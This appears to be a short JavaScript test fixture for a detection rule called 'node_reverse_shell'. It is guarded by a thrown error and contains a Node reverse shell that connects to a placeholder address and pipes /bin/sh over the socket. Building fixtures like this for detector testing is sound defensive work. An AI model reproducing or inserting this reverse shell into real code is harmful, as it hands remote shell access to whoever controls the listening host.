// Trips node_reverse_shell.
throw new Error("a fixture: never run");
const client = net.connect(9, "192.0.2.1"), shell = spawn("/bin/sh");
client.pipe(shell.stdin);
shell.stdout.pipe(client);
